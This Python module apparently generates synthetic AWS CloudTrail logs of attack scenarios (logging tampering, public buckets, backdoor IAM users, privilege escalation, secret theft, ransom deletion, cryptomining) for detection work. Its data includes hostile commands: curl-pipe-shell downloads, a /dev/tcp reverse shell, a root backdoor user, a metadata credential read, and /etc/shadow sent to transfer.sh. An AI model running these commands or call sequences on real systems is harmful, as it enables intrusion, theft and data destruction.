"""AWS: what a thief of keys does with an account."""

from __future__ import annotations

import base64
import json

from generator.families.cloud.aws_records import account_id, any_actor, cloudtrail, console_login, role_actor, root_actor, user_actor, write_calls
from generator.families.cloud.render import style
from generator.scene import Scene, aftermath, attack, benign, family
from generator.world import World


def _name(world: World) -> str:
    return world.pick([f"{world.company}-{world.pick(['backups', 'data', 'invoices', 'logs', 'media', 'customer-exports', 'prod'])}", world.user(), f"{world.pick(['prod', 'main', 'org'])}-{world.pick(['trail', 'audit', 'store'])}"])


@family("cloud/aws-logging-stopped", attack=True)
def aws_logging_stopped(world: World) -> Scene:
    label = attack("Cloud Tampering", "T1562.008", severity=world.pick(["HIGH", "CRITICAL"]))
    trail, detector = _name(world), world.hex(32)
    calls = [
        ("cloudtrail:StopLogging", {"name": world.pick([trail, f"arn:aws:cloudtrail:us-east-1:{account_id(world)}:trail/{trail}"])}),
        ("cloudtrail:DeleteTrail", {"name": trail}),
        ("cloudtrail:UpdateTrail", {"name": trail, "isMultiRegionTrail": False, "includeGlobalServiceEvents": False, "enableLogFileValidation": False}),
        ("cloudtrail:PutEventSelectors", {"trailName": trail, "eventSelectors": [{"readWriteType": "ReadOnly", "includeManagementEvents": False, "dataResources": []}]}),
        ("guardduty:DeleteDetector", {"detectorId": detector}),
        ("guardduty:UpdateDetector", {"detectorId": detector, "enable": False}),
        ("guardduty:CreateFilter", {"detectorId": detector, "name": "f1", "action": "ARCHIVE", "findingCriteria": {"criterion": {"severity": {"gte": 1}}}}),
        ("config:StopConfigurationRecorder", {"configurationRecorderName": "default"}),
        ("config:DeleteDeliveryChannel", {"deliveryChannelName": "default"}),
        ("ec2:DeleteFlowLogs", {"DeleteFlowLogsRequest": {"FlowLogId": {"tag": 1, "content": f"fl-0{world.hex(16)}"}}}),
        ("logs:DeleteLogGroup", {"logGroupName": world.pick(["/aws/cloudtrail/audit", "CloudTrail/DefaultLogGroup", "/aws/vpc/flowlogs"])}),
        ("securityhub:DisableSecurityHub", None),
        ("s3:PutBucketLifecycle", {"bucketName": f"aws-cloudtrail-logs-{account_id(world)}", "LifecycleConfiguration": {"Rule": {"Expiration": {"Days": 1}, "Status": "Enabled", "Prefix": ""}}}),
        ("monitoring:DeleteAlarms", {"alarmNames": ["RootAccountUsage", "UnauthorizedApiCalls", "IAMPolicyChanges"]}),
    ]
    return write_calls(world, any_actor(world), world.some(calls, 1, world.pick([1, 1, 3])), label)


@family("cloud/aws-bucket-public", attack=True)
def aws_bucket_public(world: World) -> Scene:
    label = attack("Cloud Tampering", "T1530", severity="HIGH")
    bucket = _name(world)
    everyone = world.pick(["*", {"AWS": "*"}])
    policy = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": everyone, "Action": world.pick(["s3:GetObject", "s3:*", ["s3:GetObject", "s3:ListBucket"]]), "Resource": [f"arn:aws:s3:::{bucket}/*"]}]}
    calls = [
        ("s3:PutBucketPolicy", {"bucketName": bucket, "bucketPolicy": policy, "Host": f"{bucket}.s3.amazonaws.com"}),
        ("s3:PutBucketAcl", {"bucketName": bucket, "AccessControlPolicy": {"AccessControlList": {"Grant": {"Grantee": {"URI": world.pick(["http://acs.amazonaws.com/groups/global/AllUsers", "http://acs.amazonaws.com/groups/global/AuthenticatedUsers"])}, "Permission": world.pick(["READ", "FULL_CONTROL", "WRITE"])}}}}),
        ("s3:PutBucketAcl", {"bucketName": bucket, "x-amz-acl": world.pick(["public-read", "public-read-write"])}),
        ("s3:PutBucketPublicAccessBlock", {"bucketName": bucket, "PublicAccessBlockConfiguration": {"BlockPublicAcls": False, "IgnorePublicAcls": False, "BlockPublicPolicy": False, "RestrictPublicBuckets": False}}),
        ("s3:DeleteBucketPublicAccessBlock", {"bucketName": bucket, "publicAccessBlock": ""}),
        ("ecr:SetRepositoryPolicy", {"repositoryName": bucket, "policyText": json.dumps(policy["Statement"])}),
    ]
    return write_calls(world, any_actor(world), world.some(calls, 1, 2), label)


@family("cloud/aws-security-group-open", attack=True)
def aws_security_group_open(world: World) -> Scene:
    label = attack("Cloud Tampering", "T1562.007", severity="HIGH")
    everyone = world.pick([{"ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}}, {"ipv6Ranges": {"items": [{"cidrIpv6": "::/0"}]}, "ipRanges": {}}])
    low, high = world.pick([(22, 22), (3389, 3389), (0, 65535), (3306, 3306), (5432, 5432), (-1, -1), (445, 445), (6379, 6379), (9200, 9200), (27017, 27017)])
    permission = {"ipProtocol": "-1" if low == -1 else "tcp", "fromPort": low, "toPort": high, "groups": {}, **everyone}
    call = world.pick(["ec2:AuthorizeSecurityGroupIngress", "ec2:AuthorizeSecurityGroupIngress", "ec2:ModifySecurityGroupRules"])
    calls = [(call, {"groupId": f"sg-0{world.hex(16)}", "ipPermissions": {"items": [permission]}})]
    if world.chance(0.2):
        calls = [("rds:ModifyDBInstance", {"dBInstanceIdentifier": _name(world), "publiclyAccessible": True, "applyImmediately": True}), *calls]
    return write_calls(world, any_actor(world), calls, label)


@family("cloud/aws-snapshot-shared-outside", attack=True)
def aws_snapshot_shared(world: World) -> Scene:
    label = attack("Potential Data Exfiltration", "T1537", severity="CRITICAL")
    stranger = world.pick([{"add": {"items": [{"group": "all"}]}}, {"add": {"items": [{"userId": account_id(world)}]}}])
    calls = [
        ("ec2:ModifySnapshotAttribute", {"snapshotId": f"snap-0{world.hex(16)}", "createVolumePermission": stranger, "attributeType": "CREATE_VOLUME_PERMISSION"}),
        ("ec2:ModifyImageAttribute", {"imageId": f"ami-0{world.hex(16)}", "launchPermission": stranger, "attributeType": "launchPermission"}),
        ("rds:ModifyDBSnapshotAttribute", {"dBSnapshotIdentifier": _name(world), "attributeName": "restore", "valuesToAdd": [world.pick(["all", account_id(world)])]}),
        ("rds:ModifyDBClusterSnapshotAttribute", {"dBClusterSnapshotIdentifier": _name(world), "attributeName": "restore", "valuesToAdd": [account_id(world)]}),
        ("s3:PutBucketReplication", {"bucketName": _name(world), "ReplicationConfiguration": {"Rule": {"Destination": {"Bucket": f"arn:aws:s3:::{world.word(9)}", "Account": account_id(world)}, "Status": "Enabled"}}}),
    ]
    chosen = world.some(calls, 1, 1)
    if world.chance(0.5):
        chosen.insert(0, ("ec2:CreateSnapshot", {"volumeId": f"vol-0{world.hex(16)}", "description": world.pick(["", "tmp", "test"])}))
    return write_calls(world, any_actor(world), chosen, label)


@family("cloud/aws-backdoor-account", attack=True)
def aws_backdoor_account(world: World) -> Scene:
    label = attack("Cloud Tampering", world.pick(["T1136.003", "T1098.001"]), "T1098.003", severity="CRITICAL")
    name = world.pick(["support2", "aws-support", "test1", "ses-smtp", "adminn", "root_backup", world.word(6), "cloudwatch-svc", "terraform2"])
    steps = [("iam:CreateUser", {"userName": name}), ("iam:AttachUserPolicy", {"userName": name, "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}), ("iam:CreateAccessKey", {"userName": name})]
    more = [
        ("iam:CreateLoginProfile", {"userName": name, "passwordResetRequired": False}),
        ("iam:AddUserToGroup", {"userName": name, "groupName": world.pick(["Administrators", "admins", "Admin"])}),
        ("iam:PutUserPolicy", {"userName": name, "policyName": world.word(6), "policyDocument": '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}'}),
    ]
    actor = role_actor(world, session=f"i-0{world.hex(16)}") if world.chance(0.5) else user_actor(world, world.service_account())
    return write_calls(world, actor, steps + world.some(more, 0, 2), label)


@family("cloud/aws-rights-raised", attack=True)
def aws_rights_raised(world: World) -> Scene:
    label = attack("Privilege Escalation", "T1098.003", "T1548.005", severity="CRITICAL")
    actor = user_actor(world) if world.chance(0.5) else role_actor(world, role="web-instance-profile", session=f"i-0{world.hex(16)}")
    own = actor.identity.get("userName", "web-instance-profile")
    everything = '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}'
    calls = [
        ("iam:AttachUserPolicy", {"userName": own, "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}),
        ("iam:PutUserPolicy", {"userName": own, "policyName": world.pick(["inline", "x", "allow-all"]), "policyDocument": everything}),
        ("iam:PutRolePolicy", {"roleName": own, "policyName": world.word(5), "policyDocument": everything}),
        ("iam:AttachRolePolicy", {"roleName": own, "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}),
        ("iam:CreatePolicyVersion", {"policyArn": f"arn:aws:iam::{actor.account}:policy/{own}", "policyDocument": everything, "setAsDefault": True}),
        ("iam:UpdateAssumeRolePolicy", {"roleName": "OrganizationAccountAccessRole", "policyDocument": '{"Statement":[{"Effect":"Allow","Principal":{"AWS":"*"},"Action":"sts:AssumeRole"}]}'}),
        ("iam:UpdateAssumeRolePolicy", {"roleName": "admin", "policyDocument": f'{{"Statement":[{{"Effect":"Allow","Principal":{{"AWS":"arn:aws:iam::{account_id(world)}:root"}},"Action":"sts:AssumeRole"}}]}}'}),
        ("lambda:AddPermission20150331v2", {"functionName": _name(world), "action": "lambda:*", "principal": "*"}),
        ("iam:UpdateLoginProfile", {"userName": world.pick(["admin", "root-admin", "breakglass"]), "passwordResetRequired": False}),
    ]
    return write_calls(world, actor, world.some(calls, 1, 2), label)


@family("cloud/aws-fleet-mining", attack=True)
def aws_fleet_mining(world: World) -> Scene:
    scene, label, actor = Scene(), attack("Cryptomining", "T1496.001", "T1578.002", severity="CRITICAL"), any_actor(world)
    write = style(world, "cloudtrail")
    script = world.pick([f"#!/bin/bash\ncurl -sL http://{world.ip_public()}/{world.word(3)}.sh | bash", "#!/bin/bash\nwget -qO- https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-x64.tar.gz | tar xz && ./xmrig-6.21.0/xmrig -o pool.supportxmr.com:443 --tls", "#cloud-config\nruncmd:\n - docker run -d --restart always xmrig/xmrig -o gulf.moneroocean.stream:10128"])
    for region in world.some(["us-east-1", "us-east-2", "us-west-2", "eu-west-1", "eu-north-1", "ap-south-1", "ap-northeast-2", "sa-east-1"], 1, 7):
        world.tick(2, 20)
        kind, count = world.pick(["p3.16xlarge", "g4dn.12xlarge", "c5a.24xlarge", "c6i.32xlarge", "p4d.24xlarge", "g5.48xlarge"]), world.pick([8, 20, 50, 100])
        request = world.pick([{"instancesSet": {"items": [{"imageId": f"ami-0{world.hex(16)}", "minCount": count, "maxCount": count}]}, "instanceType": kind, "userData": base64.b64encode(script.encode()).decode()}, {"instancesSet": {"items": [{"minCount": count, "maxCount": count}]}, "instanceType": kind, "keyName": world.word(5), "instanceInitiatedShutdownBehavior": "terminate", "disableApiTermination": True}])
        failed = world.chance(0.3)
        scene.add(write(cloudtrail(world, actor, "ec2:RunInstances", request, error="Client.VcpuLimitExceeded" if failed else None, message="You have requested more vCPU capacity than your current vCPU limit allows for the instance bucket that the specified instance type belongs to.", region=region)), label)
    if world.chance(0.3):
        scene.add(write(cloudtrail(world, actor, "ecs:RegisterTaskDefinition", {"family": world.word(6), "containerDefinitions": [{"name": "m", "image": world.pick(["xmrig/xmrig", "metal3d/xmrig", f"{world.word(6)}/{world.word(4)}:latest"]), "command": ["-o", "stratum+tcp://pool.hashvault.pro:3333"]}], "requiresCompatibilities": ["FARGATE"], "cpu": "4096"})), label)
    return scene


@family("cloud/aws-enumeration", attack=True)
def aws_enumeration(world: World) -> Scene:
    scene, actor, write = Scene(), any_actor(world), style(world, "cloudtrail")
    label = attack("Discovery", world.pick(["T1580", "T1526", "T1087.004"]), severity="MEDIUM")
    calls = "sts:GetCallerIdentity iam:ListUsers iam:ListRoles iam:ListAttachedUserPolicies iam:GetAccountAuthorizationDetails iam:ListAccessKeys iam:GetAccountSummary s3:ListBuckets ec2:DescribeInstances ec2:DescribeSecurityGroups rds:DescribeDBInstances lambda:ListFunctions20150331 secretsmanager:ListSecrets ssm:DescribeParameters organizations:ListAccounts ses:GetSendQuota ses:ListIdentities kms:ListKeys dynamodb:ListTables ecr:DescribeRepositories cloudtrail:DescribeTrails guardduty:ListDetectors bedrock:ListFoundationModels".split()
    for call in world.some(calls, 6, 18):
        world.tick(0.2, 3)
        scene.add(write(cloudtrail(world, actor, call, None, error=world.pick(["AccessDenied", "AccessDenied", "Client.UnauthorizedOperation", None]), region="us-east-1")), label)
    return scene


@family("cloud/aws-root-used", attack=True)
def aws_root_used(world: World) -> Scene:
    scene, actor, write = Scene(), root_actor(world), style(world, "cloudtrail")
    label = attack("Account Takeover", "T1078.004", severity="CRITICAL")
    for _ in range(world.pick([0, 0, 2, 4])):
        world.tick(3, 30)
        scene.add(write(console_login(world, actor, False, world.pick(["No", "No", "Yes"]), "Failed authentication")), label)
    world.tick(2, 20)
    scene.add(write(console_login(world, actor, True, world.pick(["No", "Yes"]))), label)
    for call in world.some(["iam:CreateAccessKey", "iam:DeactivateMFADevice", "iam:CreateUser", "account:PutAlternateContact", "organizations:LeaveOrganization", "signin:PasswordUpdated", "iam:DeleteAccountPasswordPolicy"], 0, 3):
        world.tick(5, 60)
        scene.add(write(cloudtrail(world, actor, call, None)), label)
    return scene


@family("cloud/aws-console-guessing", attack=True)
def aws_console_guessing(world: World) -> Scene:
    scene, actor, write = Scene(), user_actor(world), style(world, "cloudtrail")
    won, label = world.chance(0.4), attack("Brute Force Attack", "T1110.001")
    for _ in range(world.number(6, 25)):
        world.tick(1, 15)
        scene.add(write(console_login(world, actor, False, world.pick(["No", "No", "Yes"]), world.pick(["Failed authentication", "Failed authentication", "No username found in supplied account"]))), label)
    if won:
        scene.add(write(console_login(world, actor, True, world.pick(["No", "Yes"]))), aftermath(attack("Brute Force Attack — Successful Login", "T1110.001", "T1078.004", severity="CRITICAL")))
    return scene


@family("cloud/aws-secrets-read", attack=True)
def aws_secrets_read(world: World) -> Scene:
    label = attack("Credential Theft", "T1555.006", severity="CRITICAL")
    secrets = ["prod/db/master", "stripe/live-key", "jwt-signing", "github/token", "smtp/password", "vpn/psk", "datadog/api", "payroll/sftp", "rds!cluster-main", "domain-join", "okta/api-token"]
    calls = [("secretsmanager:GetSecretValue", {"secretId": name}) for name in world.some(secrets, 4, 9)]
    calls.insert(0, ("secretsmanager:ListSecrets", None))
    if world.chance(0.4):
        calls += [("ssm:GetParametersByPath", {"path": "/", "recursive": True, "withDecryption": True}), ("ec2:GetPasswordData", {"instanceId": f"i-0{world.hex(16)}"})]
    return write_calls(world, any_actor(world), calls, label)


@family("cloud/aws-data-destroyed", attack=True)
def aws_data_destroyed(world: World) -> Scene:
    label = attack("Ransomware Activity", world.pick(["T1485", "T1486", "T1490"]), severity="CRITICAL")
    bucket = _name(world)
    calls = [
        ("kms:ScheduleKeyDeletion", {"keyId": f"arn:aws:kms:eu-west-1:{account_id(world)}:key/{world.uuid()}", "pendingWindowInDays": 7}),
        ("rds:DeleteDBCluster", {"dBClusterIdentifier": "prod-main", "skipFinalSnapshot": True}),
        ("rds:DeleteDBInstance", {"dBInstanceIdentifier": bucket, "skipFinalSnapshot": True, "deleteAutomatedBackups": True}),
        ("s3:PutBucketVersioning", {"bucketName": bucket, "VersioningConfiguration": {"Status": "Suspended", "MfaDelete": "Disabled"}}),
        ("s3:DeleteBucket", {"bucketName": bucket}),
        ("s3:PutObject", {"bucketName": bucket, "key": world.pick(["HOW_TO_RECOVER.txt", "README-RANSOM.txt", "YOUR-DATA-IS-ENCRYPTED.txt", "!warning!.txt"])}),
        ("s3:CopyObject", {"bucketName": bucket, "x-amz-server-side-encryption-customer-algorithm": "AES256", "key": "customers.parquet", "x-amz-copy-source": f"{bucket}/customers.parquet"}),
        ("backup:DeleteRecoveryPoint", {"backupVaultName": "Default", "recoveryPointArn": f"arn:aws:ec2:eu-west-1::snapshot/snap-0{world.hex(16)}"}),
        ("backup:DeleteBackupVault", {"backupVaultName": "Default"}),
        ("ec2:DeleteSnapshot", {"snapshotId": f"snap-0{world.hex(16)}", "force": True}),
    ]
    return write_calls(world, any_actor(world), world.some(calls, 2, 5), label)


@family("cloud/aws-command-on-instances", attack=True)
def aws_command_on_instances(world: World) -> Scene:
    label = attack("Lateral Movement", "T1651", "T1059.009", severity="CRITICAL")
    command = world.pick([f"curl -s http://{world.ip_public()}/a | sh", f"bash -c 'bash -i >& /dev/tcp/{world.ip_public()}/443 0>&1'", "useradd -o -u 0 -g 0 sysd; echo 'ssh-rsa AAAAB3Nza' >> /root/.ssh/authorized_keys", "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/", f"powershell -enc {base64.b64encode('IEX(New-Object Net.WebClient)'.encode('utf-16-le')).decode()}", "tar czf - /var/www /etc/shadow | curl -T - https://transfer.sh/x.tgz"])
    calls = [("ssm:SendCommand", {"documentName": world.pick(["AWS-RunShellScript", "AWS-RunPowerShellScript"]), "targets": [{"key": "tag:Name", "values": ["*"]}], "parameters": {"commands": [command]}})]
    if world.chance(0.3):
        calls = [("ec2:StopInstances", {"instancesSet": {"items": [{"instanceId": f"i-0{world.hex(16)}"}]}}), ("ec2:ModifyInstanceAttribute", {"instanceId": "i-0" + world.hex(16), "userData": base64.b64encode(f"#!/bin/sh\n{command}".encode()).decode()})]
    return write_calls(world, any_actor(world), calls, label)


@family("cloud/aws-mfa-removed", attack=True)
def aws_mfa_removed(world: World) -> Scene:
    scene = Scene()
    label = attack("Account Takeover", "T1556.006", severity="HIGH")
    victim, actor = world.pick(["admin", "breakglass", world.user()]), any_actor(world)
    calls = [("iam:DeactivateMFADevice", {"userName": victim, "serialNumber": f"arn:aws:iam::{actor.account}:mfa/{victim}"}), ("iam:DeleteVirtualMFADevice", {"serialNumber": f"arn:aws:iam::{actor.account}:mfa/{victim}"}), ("iam:UpdateLoginProfile", {"userName": victim, "passwordResetRequired": False})]
    if world.chance(0.3):
        other = style(world, "cloudtrail")
        scene.add(other(console_login(world, user_actor(world), True, "Yes")), benign("User Login"))
    return write_calls(world, actor, calls[: world.number(2, 3)], label, scene)


@family("cloud/aws-mail-or-model-abuse", attack=True)
def aws_mail_or_model_abuse(world: World) -> Scene:
    label = attack("Cloud Tampering", world.pick(["T1496.004", "T1098"]), severity="HIGH")
    mail = [("ses:GetSendQuota", None), ("ses:PutAccountDetails", {"mailType": "MARKETING", "productionAccessEnabled": True, "useCaseDescription": "newsletter"}), ("ses:VerifyEmailIdentity", {"emailAddress": f"{world.word(7)}@{world.word(6)}.xyz"}), ("servicequotas:RequestServiceQuotaIncrease", {"serviceCode": "ses", "quotaCode": "L-804C8AE8", "desiredValue": 1000000}), ("ses:DeleteIdentity", {"identity": f"{world.word(7)}@{world.word(6)}.xyz"})]
    model = [("bedrock:PutUseCaseForModelAccess", {"formData": "***"}), ("bedrock:CreateFoundationModelAgreement", {"modelId": "anthropic.claude-3-opus-20240229-v1:0"}), ("bedrock:PutFoundationModelEntitlement", {"modelId": "anthropic.claude-3-opus-20240229-v1:0"}), ("bedrock:DeleteModelInvocationLoggingConfiguration", None), ("bedrock:InvokeModel", {"modelId": "anthropic.claude-3-opus-20240229-v1:0", "maxTokensToSample": -1})]
    chosen = world.pick([mail, model])
    return write_calls(world, any_actor(world), chosen[world.number(0, 1):], label)
